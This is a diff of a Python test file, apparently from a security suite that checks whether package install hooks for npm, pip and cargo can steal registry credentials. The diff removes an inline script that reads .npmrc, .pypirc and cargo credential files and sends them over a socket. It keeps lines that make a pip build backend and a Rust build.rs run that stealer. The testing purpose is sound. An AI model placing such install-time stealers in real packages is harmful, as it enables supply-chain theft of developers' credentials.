@@ -13,6 +13,7 @@ from typing import Any
 
 import pytest
 from hostile_runs import call, callers_of, make_repository, outputs_of, run_sq, says, signals, write
+from language.tables import table
 from victims import SECRET, Victims
 
 from state.journal.events import WorkspaceSetUp
@@ -23,36 +24,8 @@ pytestmark = [pytest.mark.hostile, pytest.mark.timeout(600)]
 
 ROWS = {"npm": "a postinstall of package.json", "pip": "a setup.py", "cargo": "a build.rs"}
 CREDENTIALS = (".npmrc", ".pypirc", ".cargo/credentials.toml")
-STEAL = """
-import os, socket, sys
-from pathlib import Path
-row = sys.argv[1]
-(Path(__file__).parent / f"ran-{row}").touch()
-found = [Path.home() / name for name in NAMES]
-text = " ".join(path.read_text() for path in found if path.exists())
-try:
-    with socket.create_connection(TO, timeout=3) as server:
-        server.sendall(f"{row} {text}".encode())
-except OSError:
-    pass
-"""
-BACKEND = """
-import os, subprocess, sys, zipfile
-from pathlib import Path
-
-HERE = Path(__file__).parent
-
-def build_wheel(folder, settings=None, metadata=None):
-    info = "shop-1.dist-info"
-    with zipfile.ZipFile(Path(folder) / "shop-1-py3-none-any.whl", "w") as wheel:
-        wheel.writestr("shop.pth", str(HERE / "src"))
-        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\\nName: shop\\nVersion: 1\\n")
-        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
-        wheel.writestr(f"{info}/RECORD", "")
-    return "shop-1-py3-none-any.whl"
-
-build_editable = build_wheel
-"""
+STEAL = table(__file__, "steal")
+BACKEND = table(__file__, "backend")
 STEALING = '\nsubprocess.run([sys.executable, str(HERE / "steal.py"), "pip"])\n'
 BUILD_RS = (
     'fn main() { std::process::Command::new("python3").args(["steal.py", "cargo"]).status().unwrap(); }\n'
